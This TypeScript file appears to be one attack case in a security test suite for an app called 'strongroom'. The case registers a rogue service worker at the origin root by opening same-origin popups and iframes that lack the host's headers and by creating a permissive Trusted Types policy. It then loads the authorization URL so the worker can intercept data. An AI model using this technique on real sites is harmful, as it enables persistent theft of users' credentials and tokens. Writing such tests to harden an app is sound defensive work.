import { attack } from "../attack.js";

export default attack({
  name: "registers a script at the root of the app's origin as a service worker",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook(it) {
    navigator.serviceWorker.addEventListener("message", ({ data }) => it.steal(data));
    navigator.serviceWorker.startMessages();
  },
  // Registers from the page and from every document of the origin that the page can access, including the server's own error
  // pages (RFC 9110 section 15.5.15, RFC 6585 section 5), which lack the host's headers.
  async payload(it) {
    const script = "/worker-of-the-attacker.js";
    const tooLong = `/?${"x".repeat(20_000)}`;
    const blank = URL.createObjectURL(new Blob(["<p>"], { type: "text/html" }));
    const popups = ["/config.json", tooLong, "", "about:blank#x", blank, "/auth/x"].map((src) =>
      window.open(src),
    );
    const { documentPictureInPicture } = window as {
      documentPictureInPicture?: { requestWindow(): Promise<Window> };
    };
    popups.push((await documentPictureInPicture?.requestWindow().catch(() => null)) ?? null);
    const frames = [
      tooLong,
      "/%",
      `/${"x".repeat(20_000)}`,
      "/empty.html",
      "/config.json",
      "/vault-worker.js",
      "/auth/x",
      "/api/v1/echo",
      "about:blank",
      blank,
    ].map((src) => Object.assign(document.createElement("iframe"), { src }));
    document.body.append(...frames);
    await Promise.race([
      it.pause(2_000),
      Promise.all(frames.map((frame) => new Promise((loaded) => frame.addEventListener("load", loaded)))),
    ]);
    let registered = false;
    for (const place of [window, ...popups, ...frames.map((frame) => frame.contentWindow)]) {
      try {
        const { navigator, trustedTypes } = place as unknown as typeof globalThis & {
          trustedTypes?: {
            createPolicy(name: string, rules: object): { createScriptURL(url: string): string };
          };
        };
        let url = it.scriptUrl(script);
        if (place !== window) {
          const rules = { createScriptURL: (text: string) => text };
          url = trustedTypes?.createPolicy("strongroom", rules).createScriptURL(script) ?? script;
        }
        await navigator.serviceWorker.register(url, { scope: "/" });
        registered = true;
        break;
      } catch {
        // Try the next document.
      }
    }
    for (const popup of popups) popup?.close();
    if (!registered) return;
    const registration = await navigator.serviceWorker.getRegistration("/");
    while (!registration?.active?.scriptURL.endsWith(script)) await it.pause(50);
    const frame = document.createElement("iframe");
    frame.src = it.authorizationUrl();
    document.body.append(frame);
  },
  async play(stage) {
    await stage.playOwnWorker("/worker-of-the-attacker.js");
  },
});
